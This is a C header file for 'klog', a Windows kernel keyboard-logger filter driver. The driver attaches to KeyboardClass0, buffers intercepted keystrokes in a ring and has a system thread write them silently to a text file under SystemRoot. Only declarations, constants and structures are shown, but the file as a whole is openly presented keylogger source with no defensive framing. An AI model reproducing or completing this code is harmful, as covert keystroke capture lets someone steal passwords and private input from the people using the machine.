/*
 * klog.h - tiny keyboard logger (filter on top of kbdclass)
 *
 * based on the classic "attach to KeyboardClass0" approach, keys are pushed
 * into a ring from the read completion routine and a system thread writes
 * them out to a text file.
 */
#pragma once

#include <ntddk.h>
#include <ntddkbd.h>

#define KLOG_TAG            'golK'
#define KLOG_RING_SIZE      512
#define KLOG_LINE_MAX       64

#define KBD_CLASS_NAME      L"\\Device\\KeyboardClass0"
#define KLOG_FILE_NAME      L"\\SystemRoot\\klog.txt"

/* make/break flags, kbdclass uses KEY_BREAK (1) for key-up */
#define KLOG_KEY_UP         0x0001
#define KLOG_KEY_E0         0x0002

#if DBG
#define KLOG_DBG(...)   DbgPrint("[klog] " __VA_ARGS__)
#else
#define KLOG_DBG(...)
#endif

typedef struct _KLOG_DEVICE_EXTENSION {
    PDEVICE_OBJECT  LowerDevice;
    ULONG           Magic;          /* 'KLOG' */
} KLOG_DEVICE_EXTENSION, *PKLOG_DEVICE_EXTENSION;

typedef struct _KLOG_KEY {
    USHORT MakeCode;
    USHORT Flags;
} KLOG_KEY, *PKLOG_KEY;

typedef struct _KLOG_GLOBALS {
    PDEVICE_OBJECT  FilterDevice;
    PETHREAD        WorkerThread;
    KEVENT          StopEvent;
    KSEMAPHORE      KeySemaphore;
    KSPIN_LOCK      RingLock;
    KLOG_KEY        Ring[KLOG_RING_SIZE];
    ULONG           Head;
    ULONG           Tail;
    ULONG           Dropped;
    volatile LONG   PendingIrps;
    BOOLEAN         Stopping;
} KLOG_GLOBALS;

extern KLOG_GLOBALS g_Klog;

/* worker.c */
KSTART_ROUTINE KlogWorkerThread;
VOID KlogPushKey(USHORT MakeCode, USHORT Flags);

/* driver.c */
DRIVER_INITIALIZE DriverEntry;
DRIVER_UNLOAD KlogUnload;
_Dispatch_type_(IRP_MJ_READ) DRIVER_DISPATCH KlogDispatchRead;
_Dispatch_type_(IRP_MJ_POWER) DRIVER_DISPATCH KlogDispatchPower;
DRIVER_DISPATCH KlogDispatchPass;
IO_COMPLETION_ROUTINE KlogReadComplete;
